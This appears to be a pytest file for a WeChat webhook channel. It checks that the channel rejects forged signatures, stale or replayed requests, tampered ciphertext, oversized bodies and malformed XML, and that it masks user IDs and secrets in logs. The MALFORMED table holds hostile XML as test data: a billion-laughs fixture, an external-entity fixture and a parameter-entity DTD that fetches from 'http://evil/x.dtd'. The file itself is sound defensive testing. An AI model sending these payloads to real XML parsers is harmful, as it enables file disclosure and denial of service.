"""Requests the channel must refuse -- before the engine sees anything -- and how it refuses them."""

from __future__ import annotations

import base64
import logging
import socket
import struct
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient
from wechatpy.crypto import WeChatCrypto
from wechatpy.crypto.cryptography import WeChatCipher

from channels.wechat import WeChatAccountConfig, WeChatChannel, mask_openid
from tests.fakes.wechat_client import WeChatOwner, cdata, sign
from tests.wechat.conftest import AES_KEY, APP_ID, NOW, OPENID, TOKEN, ChannelFactory, FakeSink, FrozenClock

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "wechat"


def fixture(name: str) -> str:
    return (FIXTURES / name).read_text(encoding="utf-8")


# -- server URL verification (GET) -----------------------------------------------------------------


async def test_get_echoes_echostr_when_signed(owner: WeChatOwner) -> None:
    response = await owner.verify_url("5838479218127813673")
    assert (response.status, response.body) == (200, "5838479218127813673")


async def test_get_with_forged_signature_is_refused(owner: WeChatOwner) -> None:
    response = await owner.verify_url("1", signature="0" * 40)
    assert response.status == 403
    assert "1" not in response.body


async def test_get_with_stale_timestamp_is_refused(owner: WeChatOwner) -> None:
    response = await owner.verify_url("1", timestamp=str(int(NOW) - 301))
    assert response.status == 403


async def test_get_without_echostr_is_a_bad_request(client: TestClient[Any, Any]) -> None:
    ts, nonce = str(int(NOW)), "42"
    response = await client.get(
        "/wechat/default", params={"signature": sign(TOKEN, ts, nonce), "timestamp": ts, "nonce": nonce}
    )
    assert response.status == 400


async def test_unknown_account_is_404(
    client: TestClient[Any, Any], sink: FakeSink, clock: FrozenClock
) -> None:
    owner = WeChatOwner(client, token=TOKEN, app_id=APP_ID, account="nosuch", clock=clock)
    assert (await owner.verify_url()).status == 404
    assert (await owner.post(owner.text_xml("hi"))).status == 404
    assert sink.messages == []


# -- unverifiable: 403 ----------------------------------------------------------------------------


async def test_forged_signature(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), query={"signature": "f" * 40})
    assert response.status == 403
    assert sink.messages == []


@pytest.mark.parametrize("mode", ["compat", "safe"])
async def test_forged_msg_signature(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), query={"msg_signature": "0" * 40})
    assert response.status == 403
    assert sink.messages == []


@pytest.mark.parametrize("mode", ["compat", "safe"])
async def test_safe_mode_without_msg_signature(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), query={"msg_signature": None, "signature": None})
    assert response.status == 403
    assert sink.messages == []


async def test_missing_signature_in_plaintext_mode(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), mode="plain", query={"signature": None})
    assert response.status == 403
    assert sink.messages == []


async def test_non_ascii_signature_is_refused_not_crashed(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), query={"signature": "签名" * 20})
    assert response.status == 403
    assert sink.messages == []


@pytest.mark.parametrize("skew", [-301, 301, -86400 * 365])
async def test_stale_or_future_timestamp(owner: WeChatOwner, sink: FakeSink, skew: int) -> None:
    response = await owner.post(owner.text_xml("hi"), timestamp=str(int(NOW) + skew))
    assert response.status == 403
    assert sink.messages == []


async def test_timestamp_inside_the_window_is_accepted(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), timestamp=str(int(NOW) - 299))
    assert response.status == 200


@pytest.mark.parametrize("timestamp", ["", "abc", "1e9", "-5", "１７００"])
async def test_malformed_timestamp(owner: WeChatOwner, sink: FakeSink, timestamp: str) -> None:
    response = await owner.post(owner.text_xml("hi"), query={"timestamp": timestamp})
    assert response.status == 403
    assert sink.messages == []


async def test_replaying_a_valid_request_later_is_refused(
    owner: WeChatOwner, sink: FakeSink, clock: FrozenClock
) -> None:
    query, body = owner.signed_request(owner.text_xml("hi"))
    first = await owner.client.post(owner.path, params=query, data=body)
    assert first.status == 200
    clock.now += 3600
    again = await owner.client.post(owner.path, params=query, data=body)
    assert again.status == 403
    assert len(sink.messages) == 1


@pytest.mark.parametrize("mode", ["compat", "safe"])
async def test_ciphertext_for_another_app_id(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), encrypt_app_id="wxSOMEONEELSE0000")
    assert response.status == 403
    assert sink.messages == []


def _encrypt_raw(plaintext: bytes) -> str:
    key = WeChatCrypto(TOKEN, AES_KEY, APP_ID).key
    return base64.b64encode(WeChatCipher(key).encrypt(plaintext)).decode()


def _framed(xml: bytes, app_id: str = APP_ID) -> bytes:
    return b"0123456789abcdef" + struct.pack("I", socket.htonl(len(xml))) + xml + app_id.encode()


def _pad(data: bytes, byte: int, count: int | None = None) -> bytes:
    count = 32 - len(data) % 32 if count is None else count
    return data + bytes([byte]) * count


@pytest.mark.parametrize(
    "case", ["zero_padding", "padding_over_32", "truncated_length", "not_block_aligned", "not_base64"]
)
async def test_undecryptable_ciphertext(
    client: TestClient[Any, Any], sink: FakeSink, clock: FrozenClock, case: str
) -> None:
    owner = WeChatOwner(client, token=TOKEN, app_id=APP_ID, aes_key=AES_KEY, clock=clock)
    framed = _framed(owner.text_xml("hi").encode())
    if case == "zero_padding":
        encrypt = _encrypt_raw(_pad(framed, 0))
    elif case == "padding_over_32":
        n = 32 - len(framed) % 32
        encrypt = _encrypt_raw(_pad(framed, 0x7F, n))
    elif case == "truncated_length":
        bogus = b"0123456789abcdef" + struct.pack("I", socket.htonl(10**6)) + framed[20:]
        encrypt = _encrypt_raw(_pad(bogus, 32 - len(bogus) % 32))
    elif case == "not_block_aligned":
        encrypt = base64.b64encode(b"x" * 33).decode()
    else:
        encrypt = "!!!not base64!!!"
    ts, nonce = str(int(NOW)), "1234"
    body = f"<xml><ToUserName>{cdata('gh_x')}</ToUserName><Encrypt>{cdata(encrypt)}</Encrypt></xml>"
    response = await client.post(
        "/wechat/default",
        data=body.encode(),
        params={
            "signature": sign(TOKEN, ts, nonce),
            "timestamp": ts,
            "nonce": nonce,
            "encrypt_type": "aes",
            "msg_signature": sign(TOKEN, ts, nonce, encrypt),
        },
    )
    assert response.status == 403
    assert sink.messages == []


async def test_encrypted_message_for_an_account_without_aes_key(
    client: TestClient[Any, Any], sink: FakeSink, clock: FrozenClock
) -> None:
    owner = WeChatOwner(
        client,
        token="plain-token",
        app_id="wxplain000000000",
        aes_key=AES_KEY,
        account="plain",
        mode="safe",
        clock=clock,
    )
    response = await owner.post(owner.text_xml("hi"))
    assert response.status == 403
    assert sink.messages == []


# -- too large: 413 -------------------------------------------------------------------------------


async def test_oversized_body_by_content_length(
    make_client: ChannelFactory, sink: FakeSink, clock: FrozenClock
) -> None:
    client = await make_client(max_body_bytes=1024)
    owner = WeChatOwner(client, token=TOKEN, app_id=APP_ID, clock=clock)
    response = await owner.post(owner.text_xml("漏" * 1000))
    assert response.status == 413
    assert sink.messages == []


async def test_oversized_chunked_body_without_content_length(
    make_client: ChannelFactory, sink: FakeSink, clock: FrozenClock
) -> None:
    client = await make_client(max_body_bytes=1024)
    owner = WeChatOwner(client, token=TOKEN, app_id=APP_ID, clock=clock)
    query, body = owner.signed_request(owner.text_xml("漏" * 1000))

    async def chunks() -> Any:
        for i in range(0, len(body), 100):
            yield body[i : i + 100]

    response = await client.post(owner.path, params=query, data=chunks())
    assert response.status == 413
    assert sink.messages == []


async def test_body_just_under_the_limit_is_fine(
    make_client: ChannelFactory, sink: FakeSink, clock: FrozenClock
) -> None:
    client = await make_client(max_body_bytes=4096)
    owner = WeChatOwner(client, token=TOKEN, app_id=APP_ID, clock=clock)
    assert (await owner.post(owner.text_xml("漏" * 1000))).status == 200


# -- malformed: 400 -------------------------------------------------------------------------------

MALFORMED = {
    "not_xml": b"hello",
    "truncated": b"<xml><ToUserName><![CDATA[toUser]]></ToUserName><Content>",
    "wrong_root": b"<message><MsgType>text</MsgType></message>",
    "empty_root": b"<xml/>",
    "empty_body": b"",
    "no_msgtype": b"<xml><FromUserName>o1</FromUserName><CreateTime>1</CreateTime></xml>",
    "no_sender": b"<xml><MsgType>text</MsgType><CreateTime>1</CreateTime></xml>",
    "bad_create_time": b"<xml><FromUserName>o1</FromUserName><CreateTime>yesterday</CreateTime>"
    b"<MsgType>text</MsgType></xml>",
    "nested_msgtype": b"<xml><FromUserName>o1</FromUserName><CreateTime>1</CreateTime>"
    b"<MsgType><a>text</a></MsgType></xml>",
    "bad_latitude": b"<xml><FromUserName>o1</FromUserName><CreateTime>1</CreateTime><MsgType>location"
    b"</MsgType><Location_X>north</Location_X><Location_Y>1</Location_Y><MsgId>1</MsgId></xml>",
    "not_utf8": b"<xml><FromUserName>o1</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType>"
    b"<Content>\xe9t\xe9 \xff</Content></xml>",
    "billion_laughs": fixture("billion_laughs.xml").encode(),
    "external_entity": fixture("external_entity.xml").encode(),
    "internal_dtd": b'<?xml version="1.0"?><!DOCTYPE xml [<!ELEMENT xml ANY>]><xml><FromUserName>o1'
    b"</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>",
    "parameter_entity": b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]>'
    b"<xml/>",
}


@pytest.mark.parametrize("mode", ["plain", "compat", "safe"])
@pytest.mark.parametrize("case", sorted(MALFORMED))
async def test_malformed_documents_are_bad_requests(
    owner: WeChatOwner, sink: FakeSink, mode: str, case: str
) -> None:
    payload = MALFORMED[case]
    if mode == "compat" and (b"</xml>" not in payload or case == "not_utf8"):
        pytest.skip("compatible mode embeds the plaintext inside <xml>…</xml>: needs such a document")
    if mode == "plain":
        response = await owner.post(payload)
    elif mode == "safe":
        # the hostile document is the *decrypted* payload: it passed the signature and the AppId check
        response = await owner.post(payload, mode="safe")
    else:
        response = await owner.post(payload, mode="compat")
    if mode == "safe" and case == "not_utf8":
        # wechatpy decodes the plaintext before it compares the AppId: indistinguishable from a forgery
        assert response.status == 403, response.body
    else:
        assert response.status == 400, (case, response.body)
    assert sink.messages == []


async def test_hostile_outer_document_in_safe_mode(owner: WeChatOwner, sink: FakeSink) -> None:
    _, body = owner.signed_request(owner.text_xml("hi"), mode="safe")
    hostile = fixture("billion_laughs.xml").replace("<xml>", "<xml>" + body.decode()[5:-6], 1)
    response = await owner.post(owner.text_xml("hi"), mode="safe", body=hostile.encode())
    assert response.status == 400
    assert sink.messages == []


async def test_unknown_encrypt_type(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), query={"encrypt_type": "rot13"})
    assert response.status == 400
    assert sink.messages == []


@pytest.mark.parametrize("mode", ["safe"])
async def test_encrypted_body_without_encrypt_element(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), body=b"<xml><ToUserName>gh</ToUserName></xml>")
    assert response.status == 400
    assert sink.messages == []


# -- observability ----------------------------------------------------------------------------------


async def test_every_rejection_is_logged_and_counted_with_a_masked_openid(
    make_client: ChannelFactory, sink: FakeSink, clock: FrozenClock, caplog: pytest.LogCaptureFixture
) -> None:
    rejected: list[tuple[str, str]] = []
    client = await make_client(on_rejected=lambda account, reason: rejected.append((account, reason)))
    owner = WeChatOwner(client, token=TOKEN, app_id=APP_ID, aes_key=AES_KEY, openid=OPENID, clock=clock)
    with caplog.at_level(logging.WARNING, logger="yezhu.wechat"):
        await owner.post(owner.text_xml("hi"), query={"signature": "0" * 40})
        await owner.post(owner.text_xml("hi"), timestamp="1")
        await owner.post(owner.text_xml("hi"), encrypt_app_id="wxOTHER")
        await owner.post(MALFORMED["billion_laughs"], mode="plain")
        other = WeChatOwner(client, token=TOKEN, app_id=APP_ID, account="nosuch", clock=clock)
        await other.post(other.text_xml("hi"))
    assert rejected == [
        ("default", "bad_signature"),
        ("default", "stale_timestamp"),
        ("default", "decrypt_failed"),
        ("default", "forbidden_xml"),
        ("-", "unknown_account"),
    ]
    records = [r for r in caplog.records if r.name == "yezhu.wechat"]
    assert len(records) == 5
    assert all(r.levelno == logging.WARNING for r in records)
    text = "\n".join(r.getMessage() for r in records)
    assert OPENID not in text
    assert mask_openid(OPENID) in text
    assert TOKEN not in text


def test_mask_openid() -> None:
    assert mask_openid("oDEMO0001") == "oDEM***"
    assert mask_openid(None) == "-"


def test_config_repr_hides_secrets() -> None:
    config = WeChatAccountConfig(
        name="x", token="tok-secret", app_id="wx1", app_secret="app-secret", aes_key=AES_KEY
    )
    assert "secret" not in repr(config)
    assert AES_KEY not in repr(config)


@pytest.mark.parametrize("bad_key", ["short", AES_KEY + "A", "!" * 43])
def test_a_wrong_encoding_aes_key_fails_at_start_up(bad_key: str) -> None:
    account = WeChatAccountConfig(name="x", token="t", app_id="wx1", app_secret="s", aes_key=bad_key)
    with pytest.raises(ValueError, match="EncodingAESKey"):
        WeChatChannel({"x": account}, FakeSink())
